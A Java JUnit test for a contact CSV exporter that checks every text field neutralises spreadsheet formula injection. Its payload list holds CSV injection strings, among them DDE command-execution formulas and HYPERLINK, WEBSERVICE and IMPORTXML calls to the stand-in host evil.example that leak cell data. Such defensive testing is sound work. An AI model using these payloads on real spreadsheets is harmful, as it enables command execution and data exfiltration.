package foothold.exchange.contactcsv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;

import foothold.domain.contact.Contact;
import foothold.domain.flat.Fields;
import foothold.domain.flat.Shapes;
import foothold.exchange.TextDecoder;
import foothold.exchange.UnreadableFile;
import foothold.exchange.archive.RandomRecords;
import foothold.trust.Promise;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Every payload in every field that takes a text: nothing computes, and all comes back. */
class FormulaTest {
    private static final List<String> PAYLOADS =
            List.of(
                    "=1+1",
                    "=cmd|' /C calc'!A0",
                    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                    "=WEBSERVICE(\"https://evil.example\")",
                    "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "+49 30 1234567",
                    "+1-555-0100",
                    "-1",
                    "-2+3+cmd|' /C calc'!A0",
                    "--",
                    "\u002b\u002b",
                    "＝1+1",
                    "＋1",
                    "－1",
                    "＠SUM(1)",
                    "'=1+1",
                    "''-1",
                    "'plain",
                    "x\",=1+1,\"",
                    "x\n=1+1",
                    "x;=1+1",
                    "x\t=1+1");

    @Test
    @Tag("promise")
    void everyPayloadInEveryField() throws IOException, UnreadableFile {
        var fields = new ArrayList<String>();
        int cells = 0;
        for (var field : texts().entrySet()) {
            fields.add(field.getKey());
            for (var payload : PAYLOADS) {
                var contact = with(field.getKey(), field.getValue(), payload);
                var written = write(contact);
                cells += check(written);
                assertEquals(contact, read(written), field.getKey() + " = " + payload);
            }
        }
        assertTrue(fields.size() >= 10, fields.toString());
        Promise.kept(
                "R16",
                "%d payloads in each of %d fields: none of %,d cells begins a formula, all came"
                        + " back",
                PAYLOADS.size(),
                fields.size(),
                cells);
    }

    /**
     * The fields of a contact that hold any text, found by trying, each with whether it is a list.
     */
    private static Map<String, Boolean> texts() {
        var found = new java.util.TreeMap<String, Boolean>();
        for (var contact : new RandomRecords(3, 40).make().all(Shapes.CONTACT)) {
            Shapes.CONTACT
                    .flatten(contact)
                    .values()
                    .forEach(
                            (name, value) -> {
                                if (value instanceof String && holds(name, false)) {
                                    found.put(name, false);
                                } else if (value instanceof List<?> && holds(name, true)) {
                                    found.put(name, true);
                                }
                            });
        }
        found.remove("id");
        return found;
    }

    private static boolean holds(String field, boolean list) {
        try {
            var value = Shapes.CONTACT.flatten(with(field, list, "=probe")).values().get(field);
            return value.equals(list ? List.of("=probe") : "=probe");
        } catch (IllegalArgumentException
                | java.time.DateTimeException
                | ClassCastException
                | NullPointerException _) {
            return false;
        }
    }

    private static Contact with(String field, boolean list, String text) {
        Fields fields = Shapes.CONTACT.flatten(Contact.named("1", "Ada"));
        fields.raw(field, list ? List.of(text) : text);
        return Shapes.CONTACT.restore(fields);
    }

    private static int check(String written) {
        int cells = 0;
        try (var rows = CsvReader.builder().ofCsvRecord(written.substring(1))) {
            for (var row : rows) {
                for (var cell : row.getFields()) {
                    assertFalse(cell.matches("(?s)[=+\\-@\t\r\n＝＋－＠].*"), cell);
                    cells++;
                }
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return cells;
    }

    private static String write(Contact contact) throws IOException {
        var out = new StringWriter();
        ContactCsvWriter.write(List.of(contact), (_, id) -> id, out);
        return out.toString();
    }

    private static Contact read(String text) throws UnreadableFile {
        var sheet = SheetReader.read(TextDecoder.decode(text.getBytes(StandardCharsets.UTF_8)));
        return Shapes.CONTACT.restore(
                ContactCsvReader.read(sheet, ColumnGuess.of(sheet)).rows().getFirst().facts());
    }
}
